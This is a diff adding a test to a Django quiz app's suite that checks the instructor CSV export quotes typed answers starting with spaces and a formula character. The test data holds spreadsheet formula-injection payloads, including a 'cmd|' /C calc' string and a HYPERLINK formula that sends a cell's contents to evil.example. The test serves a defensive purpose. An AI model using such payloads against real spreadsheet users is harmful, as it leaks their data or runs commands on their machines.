@@ -10,6 +10,7 @@ from django.contrib.auth.models import Permission
 from django.http import StreamingHttpResponse
 
 from quizzes.attempts.services import attempt_start
+from quizzes.grading import Response
 from quizzes.instructors.exports import CSV_HEADER, attempt_rows
 from quizzes.models import Quiz
 from tests import factories
@@ -97,6 +98,22 @@ def test_cells_a_spreadsheet_would_run_as_formulas_are_quoted(instructor_client,
         [f"'{start}cmd|' /C calc'!A0", f"cmd{start}1"]
     )
     assert {row["learner"] for row in downloaded} == {f"'{start}cmd|' /C calc'!A0", f"cmd{start}1"}
+
+
+@pytest.mark.parametrize("space", [" ", "   ", "\u00a0", "\u3000", "\n"])
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_a_typed_answer_with_a_formula_behind_leading_spaces_is_quoted_too(
+    instructor_client, learner, space, start
+):
+    quiz = factories.make_quiz(questions=0)
+    question = factories.add_short_question(quiz, 1)
+    attempt = attempt_start(user=learner, quiz=quiz)
+    typed = f'{space}{start}HYPERLINK("http://evil.example/?"&A1)'
+    post_answer(attempt, question, response=Response(text=typed))
+
+    downloaded = _read(instructor_client.get(f"/en/admin/quizzes/quiz/{quiz.pk}/attempts.csv"))
+
+    assert [row["text_typed"] for row in downloaded] == ["'" + typed]
 
 
 def test_quiz_page_offers_its_own_attempts_csv(instructor_client, quiz, attempts):
